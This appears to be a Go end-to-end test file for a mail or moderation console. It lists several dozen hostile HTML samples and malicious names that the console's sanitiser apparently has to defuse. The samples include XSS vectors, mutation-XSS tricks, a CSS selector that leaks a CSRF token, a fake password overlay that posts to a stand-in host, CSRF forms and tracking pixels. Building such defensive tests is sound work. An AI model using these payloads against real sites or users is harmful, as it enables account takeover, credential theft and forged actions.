//go:build long && chromium

package e2e

import (
	"encoding/base64"
	"strings"
)

// hostile is what strangers put into mails, one thing a mail. HERE stands for the
// stranger's own host, DESK for the console's, and RUN for a script that would
// show that it ran.
var hostile = []struct{ name, html string }{
	{"scripts", `<script>RUN</script><SCRIPT SRC=HERE/bad/a.js></SCRIPT><script src="//HOST/bad/b.js" async></script><script type=module>RUN</script>`},
	{"scripts in pieces", `<scr<script>ipt>RUN</scr</script>ipt><script/x>RUN</script/x><<script>RUN//<</script><script>//--><!--RUN`},
	{"event handlers", `<img src=x onerror="RUN"><body onload="RUN"><p onmouseover=RUN onpointerenter=RUN>Move here</p><details open ontoggle=RUN>x</details>`},
	{"handlers that fire alone", `<input onfocus=RUN autofocus><marquee onstart=RUN>x</marquee><video onloadstart=RUN src=HERE/bad/v></video><style onload=RUN></style>`},
	{"handlers in disguise", "<img src=x one\u0000rror=RUN><img/src=x/onerror=RUN><img src=x \x0conerror\x0c=RUN><a href=x on\tclick=RUN>x</a>"},
	{"addresses that are scripts", `<a id=go href="javascript:RUN">Go on</a><a href="jAvA&#x09;script:RUN">x</a><a href=" &#1;javascript:RUN">x</a><a href="vbscript:RUN">x</a>`},
	{"pages written out", `<a href="data:text/html,<script>RUN</script>">x</a><iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe><img src="data:text/html,RUN">`},
	{"drawings", `<svg onload=RUN><script>RUN</script><use href="HERE/bad/u.svg#x"/><image href="HERE/bad/i.png"/><a href="javascript:RUN"><text y=20>x</text></a><animate onbegin=RUN attributeName=x></svg>`},
	{"drawings as pictures", `<img src="data:image/svg+xml;base64,` + base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`)) + `">`},
	{"formulae", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></table></mtext><maction actiontype="statusline#http://x" xlink:href="javascript:RUN">x</maction></math>`},
	{"markup that moves when read again", `<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript><select><template><style></select><img src=x onerror=RUN></style></template><textarea></p><img src=x onerror=RUN></textarea>`},
	{"styles that fetch", `<style>@import url(HERE/bad/a.css); body{background:url(HERE/bad/b.png)} @font-face{font-family:f;src:url(HERE/bad/f.woff)} p{font-family:f}</style><p style="background-image:url('HERE/bad/c.png');list-style:url(HERE/bad/d.png)">x</p>`},
	{"styles that compute", `<div style="width:expression(RUN);behavior:url(HERE/bad/x.htc);-moz-binding:url(HERE/bad/x.xml#x)">x</div><p style="background:u\72l(HERE/bad/e.png)">x</p><p style="content:image-set('HERE/bad/f.png' 1x)">x</p>`},
	{"styles that read", `<style>input[name=csrf_token][value^=a]{background:url(HERE/bad/a)} :root:has(input[value^=b]){background:url(HERE/bad/b)}</style><input name=csrf_token value=abc>`},
	{"a page over the page", `<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Session expired</h1><form action="HERE/bad/in" method=post><input name=password><button>Sign in</button></form></div>`},
	{"a refresh", `<meta http-equiv=refresh content="0;url=HERE/bad/refresh"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie content="a=b">`},
	{"another base", `<base href="HERE/bad/"><base target=_top><a href="in">Read on</a><img src="p.png">`},
	{"a form for the desk", `<form id=f action="DESK/sign-out" method=post><input name=csrf_token value=x></form><button form=f>Read on</button><form action="/blocked/order" method=post><input type=image src=HERE/bad/i name=do value=release></form>`},
	{"a form that sends itself", `<form name=f action="HERE/bad/form"><input name=q value=secret></form><script>document.f.submit()</script><isindex action="HERE/bad/x"><button formaction="javascript:RUN" autofocus>x</button>`},
	{"frames", `<iframe src="HERE/bad/frame"></iframe><iframe srcdoc="<script>RUN</script>"></iframe><frameset><frame src="HERE/bad/frame2"></frameset><portal src="HERE/bad/portal"></portal>`},
	{"plug-ins", `<object data="HERE/bad/o.swf"></object><embed src="HERE/bad/e.swf"><applet code=X archive="HERE/bad/a.jar"></applet><object data="data:text/html,<script>RUN</script>"></object>`},
	{"what is fetched ahead", `<link rel=stylesheet href="HERE/bad/l.css"><link rel=prefetch href="HERE/bad/p"><link rel=dns-prefetch href="//tell.example.org"><link rel=preconnect href="HERE"><link rel=modulepreload href="HERE/bad/m.js"><link rel=prerender href="HERE/bad/r"><link rel=icon href="HERE/bad/icon">`},
	{"pictures that count", `<img src="HERE/img/pixel.gif?id=7" width=1 height=1><img srcset="HERE/img/big.png 2x, HERE/img/small.png 1x" src="HERE/img/one.png"><picture><source srcset="HERE/img/w.webp"><img src="HERE/img/p.png"></picture>`},
	{"pictures behind", `<table background="HERE/bad/t.png"><tr><td background="HERE/bad/td.png">x</td></tr></table><body background="HERE/bad/body.png"><input type=image src="HERE/bad/input.png"><video poster="HERE/bad/poster.png"></video>`},
	{"sounds and films", `<audio autoplay src="HERE/bad/a.mp3"></audio><video autoplay muted><source src="HERE/bad/v.mp4"><track src="HERE/bad/t.vtt" default></video><bgsound src="HERE/bad/b.mid">`},
	{"links that leave", `<a href="HERE/bad/top" target=_top>x</a><a href="HERE/bad/parent" target=_parent ping="HERE/bad/ping">x</a><map name=m><area shape=default href="javascript:RUN" target=_top></map><img usemap=#m src=x>`},
	{"names of the page's own", `<form id=main name=body><input name=attributes><input name=querySelector></form><img name=getElementById id=told><a id=find name=find></a><div id=selection data-ticket=1 data-dialog data-key=d>x</div>`},
	{"a button of the desk", `<p class="top acts"><a class="act main" data-dialog data-key=r href="DESK/blocked/order?do=release">Release all</a></p><dialog open><h1>Delete all?</h1><form method=dialog><button autofocus>Delete all</button></form></dialog>`},
	{"very deep", strings.Repeat("<div><b><table><tr><td>", 4000) + `<img src=x onerror=RUN>`},
	{"characters that are none", "a\x00b<scr\x00ipt>RUN</scr\x00ipt>\x1b[2J\ufeff\u202e<b>gnp.exe\u202c\u2028<!--[if IE]><script>RUN</script><![endif]--><![CDATA[<script>RUN</script>]]><?xml-stylesheet href=\"HERE/bad/x.xsl\"?>"},
	{"something that never ends", `<p>x<!-- <style> <title> <textarea> <plaintext><xmp><noembed><img src=x onerror=RUN`},
	{"one tag in another's name", `<title><img src=x onerror=RUN></title><img alt="` + "`" + `><img src=x onerror=RUN>" src=x><p title='"><img src=x onerror=RUN>'>x</p><a href="HERE/bad/x" title="'>" onfocus=RUN autofocus tabindex=1>x</a>`},
}

// wrongNames are what strangers call themselves, their mails and their files.
var wrongNames = []string{
	`<img src=x onerror=top.ran=1>`, `"><script>top.ran=1</script>`, `'-top.ran=1-'`, `{{.CSRF}}`, `javascript:top.ran=1//`, `</title></textarea><svg onload=top.ran=1>`,
	"\u202egnp.exe", `Released by sue`,
}
